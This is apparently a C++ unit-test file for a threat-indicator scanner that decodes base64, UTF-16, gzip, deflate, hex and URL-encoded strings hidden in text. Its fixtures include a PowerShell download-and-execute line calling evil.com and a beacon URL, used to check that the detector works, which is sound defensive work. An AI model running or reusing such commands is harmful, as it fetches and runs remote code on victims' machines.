#include "ioc/ioc/embedded.hpp"

#include <catch2/catch.hpp>
#include <string>
#include <vector>

#include "ioc/codec/base64.hpp"
#include "ioc/codec/hex.hpp"
#include "ioc/codec/inflate.hpp"
#include "ioc/codec/utf16.hpp"

using namespace ioc::scan;

namespace {

std::vector<DecodedText> embedded(std::string_view text, unsigned decoders = kDecodeAll,
                                  ioc::Limits limits = {}) {
  EmbeddedOptions o;
  o.decoders = decoders;
  o.limits = limits;
  std::vector<DecodedText> out;
  find_embedded(text, o, out);
  return out;
}

}  // namespace

TEST_CASE("embedded: decoder lists", "[ioc][embedded]") {
  CHECK(parse_decoders("all").value() == kDecodeAll);
  CHECK(parse_decoders("base64,utf16").value() == (kDecodeBase64 | kDecodeUtf16));
  CHECK_FALSE(parse_decoders("rot13"));
  CHECK_FALSE(parse_decoders(""));
}

TEST_CASE("embedded: base64 of UTF-16LE, UTF-8, gzip; hex; percent-encoding", "[ioc][embedded]") {
  const std::string script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.com/a')";
  const std::string b64 =
      ioc::codec::encode_base64(ioc::codec::encode_utf16(script, ioc::codec::Endian::kLittle));
  const std::string line = "powershell -enc " + b64 + " done";
  auto d = embedded(line);
  REQUIRE(d.size() == 1);
  CHECK(d[0].text == script);
  CHECK(d[0].chain == "base64>utf16le");
  CHECK(d[0].begin == 16);
  CHECK(d[0].end == 16 + b64.size());
  CHECK(embedded(line, kDecodeBase64).empty());  // UTF-16LE not asked for

  const std::string gz = ioc::codec::deflate(script, ioc::codec::Container::kGzip).value();
  auto g = embedded("x=" + ioc::codec::encode_base64(gz));
  REQUIRE(g.size() == 1);
  CHECK(g[0].chain == "base64>gzip");
  CHECK(g[0].text == script);

  // Raw deflate (no header), as PowerShell's DeflateStream writes it.
  const std::string raw = ioc::codec::deflate(script, ioc::codec::Container::kRaw).value();
  auto r = embedded("$s=" + ioc::codec::encode_base64(raw));
  REQUIRE(r.size() == 1);
  CHECK(r[0].chain == "base64>deflate");
  CHECK(r[0].text == script);
  CHECK(embedded("$s=" + ioc::codec::encode_base64(raw), kDecodeBase64).empty());
  // Random bytes are not turned into text by a lucky raw inflate.
  std::string noise;
  for (int i = 0; i < 48; ++i) noise += static_cast<char>((i * 167 + 13) & 0xff);
  CHECK(embedded("x=" + ioc::codec::encode_base64(noise)).empty());

  auto h = embedded("payload " + ioc::codec::encode_hex("http://evil.com/x"));
  REQUIRE(h.size() == 1);
  CHECK(h[0].chain == "hex");
  CHECK(h[0].text == "http://evil.com/x");

  auto u = embedded("GET /r?to=http%3A%2F%2Fevil.com%2Fx HTTP/1.1");
  REQUIRE(u.size() == 1);
  CHECK(u[0].chain == "url");
  CHECK(u[0].text == "/r?to=http://evil.com/x");
}

TEST_CASE("embedded: nesting keeps the outer span; depth and size are bounded", "[ioc][embedded]") {
  const std::string inner = "beacon https://45.77.65.211/admin/get.php";
  const std::string once = ioc::codec::encode_base64(inner);
  const std::string twice = ioc::codec::encode_base64("echo " + once);
  auto d = embedded("a " + twice + " b");
  REQUIRE(d.size() == 2);
  CHECK(d[1].text == inner);
  CHECK(d[1].chain == "base64>base64");
  CHECK(d[1].begin == 2);
  CHECK(d[1].end == 2 + twice.size());
  ioc::Limits shallow;
  shallow.max_depth = 1;
  CHECK(embedded("a " + twice + " b", kDecodeAll, shallow).size() == 1);
  ioc::Limits small;
  small.max_output = 8;
  CHECK(embedded("a " + twice + " b", kDecodeAll, small).empty());
}

TEST_CASE("embedded: hashes and words are not blobs", "[ioc][embedded]") {
  CHECK(
      embedded("md5 d41d8cd98f00b204e9800998ecf8427e sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709")
          .empty());
  CHECK(embedded("SomeVeryLongIdentifierName and AAAAAAAAAAAAAAAAAAAAAAAA").empty());
  CHECK(embedded("100% sure, 50%% off").empty());
}

TEST_CASE("embedded: UTF-16LE strings in binary", "[ioc][embedded]") {
  const std::string wide = ioc::codec::encode_utf16("http://evil.com", ioc::codec::Endian::kLittle);
  const std::string bytes = std::string("\x01\x02\xff", 3) + wide + std::string("\0\0a\0", 4);
  std::vector<DecodedText> out;
  find_wide_strings(bytes, 4, out);
  REQUIRE(out.size() == 1);
  CHECK(out[0].text == "http://evil.com");
  CHECK(out[0].chain == "utf16le");
  CHECK(out[0].begin == 3);
  CHECK(out[0].end == 3 + wide.size());
}
